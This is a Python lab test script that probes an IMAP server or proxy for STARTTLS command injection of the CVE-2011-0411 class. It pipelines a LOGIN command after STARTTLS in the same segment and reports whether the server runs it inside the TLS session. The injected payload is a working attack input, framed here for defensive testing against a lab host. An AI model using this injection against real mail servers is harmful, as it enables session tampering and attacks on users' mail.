#!/usr/bin/python3
"""tests/lab/starttls-inject.py — an IMAP client that pipelines a command
after STARTTLS, in the same segment (the CVE-2011-0411 class of injection).

    starttls-inject.py ADDRESS CA_FILE

Connects to ADDRESS:143 (no DNS), reads the greeting, sends
"a STARTTLS\\r\\nb LOGIN tester secret\\r\\n" in one send, reads the answer to
"a", upgrades to TLS verifying mail.lab.test against CA_FILE only, sends
"c LOGOUT" and prints every line the server sent inside TLS. A server (or a
proxy) that ran the injected LOGIN inside the TLS session answers it there
("b OK ..."). Exits 0 once LOGOUT was answered; 1 (with why on stderr) on
a refused upgrade, a failed handshake or a 20 s timeout.
"""

import socket
import ssl
import sys

INJECTED = b"a STARTTLS\r\nb LOGIN tester secret\r\n"


def read_until(connection, ending):
    """What the peer sends until `ending` ends it (or it closes)."""
    received = b""
    while not received.endswith(ending):
        more = connection.recv(4096)
        if not more:
            break
        received += more
    return received


def main():
    address, ca_file = sys.argv[1:3]
    try:
        plain = socket.create_connection((address, 143), timeout=20)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        greeting = read_until(plain, b"\r\n")
        if not greeting.startswith(b"* OK"):
            sys.exit(f"starttls-inject.py: greeting {greeting!r}")
        plain.sendall(INJECTED)
        answer = b""
        while b"a " not in answer:
            more = read_until(plain, b"\r\n")
            if not more:
                break
            answer += more
        if b"a OK" not in answer:
            sys.exit(f"starttls-inject.py: STARTTLS answered {answer!r}")
        context = ssl.create_default_context(cafile=ca_file)
        secure = context.wrap_socket(plain, server_hostname="mail.lab.test")
        secure.sendall(b"c LOGOUT\r\n")
        inside = b""
        while True:
            more = secure.recv(4096)
            if not more:
                break
            inside += more
    except (OSError, ssl.SSLError) as err:
        sys.exit(f"starttls-inject.py: {err}")
    print(inside.decode("utf-8", "replace"), end="", flush=True)
    if b"c OK" not in inside:
        sys.exit("starttls-inject.py: LOGOUT not answered")


if __name__ == "__main__":
    main()
